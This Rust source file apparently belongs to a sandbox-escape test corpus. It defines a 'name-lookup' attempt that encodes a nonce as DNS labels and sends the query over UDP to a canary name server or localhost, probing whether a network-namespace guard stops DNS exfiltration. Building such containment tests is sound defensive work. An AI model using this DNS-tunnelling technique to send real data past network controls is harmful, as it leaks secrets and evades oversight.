//! Sends data out as the labels of a name to look up.
//!
//! To a canary that stands for the name server.

use std::net::{IpAddr, Ipv4Addr, UdpSocket};

use crate::corpus::look;
use crate::corpus::prelude::*;

pub(crate) const ATTACK: Attack = Attack::new(
    "name-lookup",
    Family::TalkingOut,
    Guard::NetworkNamespace,
    attempt,
)
.gains("sends data out as names to look up");

fn attempt(stage: &Stage) -> Outcome {
    let query = query(&[&stage.nonce, "exfiltrated", "test"]);
    let hosts = [stage.address, Some(IpAddr::V4(Ipv4Addr::LOCALHOST))];
    Outcome::best(hosts.into_iter().flatten().map(|host| {
        let sent = UdpSocket::bind(("0.0.0.0", 0))
            .and_then(|socket| socket.send_to(&query, (host, stage.udp)));
        look::outcome(&format!("ask {host}"), sent)
    }))
}

/// A question for the address of a name.
fn query(labels: &[&str]) -> Vec<u8> {
    // An id, recursion desired, one question.
    let mut bytes = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in labels {
        bytes.push(u8::try_from(label.len()).unwrap_or(63));
        bytes.extend(label.bytes().take(63));
    }
    bytes.extend([0, 0, 1, 0, 1]);
    bytes
}
